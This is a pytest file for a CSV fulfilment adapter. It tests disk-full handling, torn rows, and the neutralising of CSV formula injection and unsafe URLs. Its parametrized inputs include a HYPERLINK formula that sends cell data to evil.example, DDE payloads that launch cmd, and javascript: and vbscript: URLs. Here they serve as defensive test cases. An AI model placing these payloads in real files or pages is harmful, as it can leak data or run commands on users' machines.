"""The csv adapter on the real file system: short writes (a full disk, played by a file size
limit in a child process), torn last rows, and cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
import textwrap
from decimal import Decimal
from pathlib import Path
from typing import Any

import httpx
import pytest

from connectors.fulfilment.base import Deps, Job
from connectors.fulfilment.csv import CsvAdapter, CsvOptions

ROOT = Path(__file__).resolve().parent.parent


def job(n: int, **fields: Any) -> Job:
    values: dict[str, Any] = {
        "remedy_id": n, "case_id": n, "idempotency_key": f"rb-test-case{n}-0-replacement", "kind": "replacement",
        "params": {"sku": "FAN-01", "quantity": 1}, "amount": Decimal("17.00"), "currency": "EUR",
        "note": "Hello Cora,\nyour new fan is on its way.\n", "issue": "defective",
        "customer_name": f"Cora Number{n}", "customer_email": f"cu{n}@mail.example", "order_number": f"K-{100 + n}",
        "mention_url": "https://shop.example/products/fan#r1", "mention_author": "Cora", "mention_source": "shop",
        **fields,
    }
    return Job(**values)


def adapter(folder: Path) -> CsvAdapter:
    deps = Deps(client=httpx.Client(), mailer=lambda: None, data_dir=folder, sender="bot@shop.example")  # type: ignore[arg-type, return-value]
    return CsvAdapter("wh", CsvOptions(path="warehouse.csv"), deps, "fulfilment[0]")


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def deliver_with_size_limit(folder: Path, n: int, limit: int) -> dict[str, Any]:
    """Deliver job `n` in a child process whose files may not grow past `limit` bytes (RLIMIT_FSIZE:
    the kernel then writes short, then fails with EFBIG, as on a full disk)."""
    script = textwrap.dedent(f"""
        import json, resource, signal, sys
        sys.path.insert(0, {str(ROOT)!r})
        from pathlib import Path
        from tests.test_fulfilment_csv import adapter, job
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, ({limit}, resource.RLIM_INFINITY))
        try:
            print(json.dumps({{"ok": adapter(Path({str(folder)!r})).deliver(job({n}))}}))
        except Exception as exc:
            print(json.dumps({{"error": type(exc).__name__, "message": str(exc),
                              "retryable": getattr(exc, "retryable", None)}}))
    """)
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60, cwd=ROOT)
    assert done.returncode == 0, done.stderr
    return dict(json.loads(done.stdout.strip().splitlines()[-1]))


@pytest.mark.skipif(sys.platform == "win32", reason="RLIMIT_FSIZE is POSIX")
def test_a_short_write_fails_the_attempt_and_leaves_no_cut_row(tmp_path: Path) -> None:
    path = tmp_path / "warehouse.csv"
    assert adapter(tmp_path).deliver(job(1)) == "warehouse.csv"
    size = path.stat().st_size
    result = deliver_with_size_limit(tmp_path, 2, size + 40)  # room for 40 bytes of a ~300-byte row
    assert result.get("error") == "DispatchError", result
    assert result["retryable"] is True and "cannot write the row" in result["message"]
    assert path.stat().st_size == size  # the cut row was taken back
    # the retry (disk freed) writes it whole, and the next row is never glued onto a torn one
    assert adapter(tmp_path).deliver(job(2)) == "warehouse.csv"
    assert adapter(tmp_path).deliver(job(3)) == "warehouse.csv"
    assert [r["order_number"] for r in rows(path)] == ["K-101", "K-102", "K-103"]


def test_a_torn_last_row_is_cut_before_the_next_is_appended(tmp_path: Path) -> None:
    path = tmp_path / "warehouse.csv"
    adapter(tmp_path).deliver(job(1))
    whole = path.read_bytes()
    with path.open("ab") as handle:  # a crash mid-row, inside the multi-line quoted note
        handle.write(b'rb-test-case2-0-replacement,2,replacement,K-102,Cora Number2,cu2@mail.example,,FAN-01,1,,'
                     b'17.00,EUR,"{}","Hello Cora,\nyour new')
    assert adapter(tmp_path).deliver(job(3)) == "warehouse.csv"
    got = rows(path)
    assert [r["order_number"] for r in got] == ["K-101", "K-103"]
    assert got[1]["note"] == "Hello Cora,\nyour new fan is on its way.\n"
    assert path.read_bytes().startswith(whole)
    assert adapter(tmp_path).deliver(job(2)) == "warehouse.csv"  # the torn one's retry
    assert [r["order_number"] for r in rows(path)] == ["K-101", "K-103", "K-102"]


def test_a_full_disk_is_a_retryable_dispatch_error(tmp_path: Path) -> None:
    path = tmp_path / "warehouse.csv"
    adapter(tmp_path).deliver(job(1))
    result = deliver_with_size_limit(tmp_path, 2, path.stat().st_size)  # not one byte more
    assert result.get("error") == "DispatchError" and result["retryable"] is True, result
    assert len(rows(path)) == 1



@pytest.mark.parametrize("hostile", [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1",
])
def test_formula_cells_are_written_as_text(tmp_path: Path, hostile: str) -> None:
    adapter(tmp_path).deliver(job(1, customer_name=hostile, mention_author=hostile, note=hostile))
    row = rows(tmp_path / "warehouse.csv")[0]
    for column in ("customer_name", "mention_author", "note"):
        cell = row[column]
        assert cell.startswith("'"), (column, cell)
        assert "\t" not in cell and "\r" not in cell, (column, cell)
    assert row["amount"] == "17.00"


def test_control_and_bidi_characters_and_line_breaks_are_stripped(tmp_path: Path) -> None:
    name = "Cora\r\nX,Y\u202egnp.exe\u2066\x00\x1b[31m\ufeff"
    adapter(tmp_path).deliver(job(1, customer_name=name, note="Hello\r\nCora\u202e\x07"))
    got = rows(tmp_path / "warehouse.csv")
    assert len(got) == 1
    assert got[0]["customer_name"] == "Cora X,Ygnp.exe[31m"
    assert got[0]["note"] == "Hello\nCora"  # the note keeps its line breaks, normalised


@pytest.mark.parametrize("url", ["javascript:alert(document.cookie)", " JaVaScRiPt:alert(1)", "data:text/html,x",
                                 "java\u200bscript:alert(1)", "vbscript:msgbox(1)"])
def test_a_non_http_mention_url_is_kept_out_of_the_file(tmp_path: Path, url: str) -> None:
    adapter(tmp_path).deliver(job(1, mention_url=url))
    assert rows(tmp_path / "warehouse.csv")[0]["mention_url"] == ""


def test_plain_http_urls_and_negative_numbers_are_untouched(tmp_path: Path) -> None:
    adapter(tmp_path).deliver(job(1, mention_url="https://shop.example/p?a=1&b=-2", customer_name="-5.00"))
    row = rows(tmp_path / "warehouse.csv")[0]
    assert row["mention_url"] == "https://shop.example/p?a=1&b=-2" and row["customer_name"] == "-5.00"


def test_a_bare_social_handle_is_left_readable_but_not_one_with_a_formula(tmp_path: Path) -> None:
    adapter(tmp_path).deliver(job(1, mention_author="@ann@mastodon.example", customer_name="@jugless"))
    adapter(tmp_path).deliver(job(2, mention_author="@x(1)", customer_name="@a+b"))
    first, second = rows(tmp_path / "warehouse.csv")
    assert (first["mention_author"], first["customer_name"]) == ("@ann@mastodon.example", "@jugless")
    assert (second["mention_author"], second["customer_name"]) == ("'@x(1)", "'@a+b")
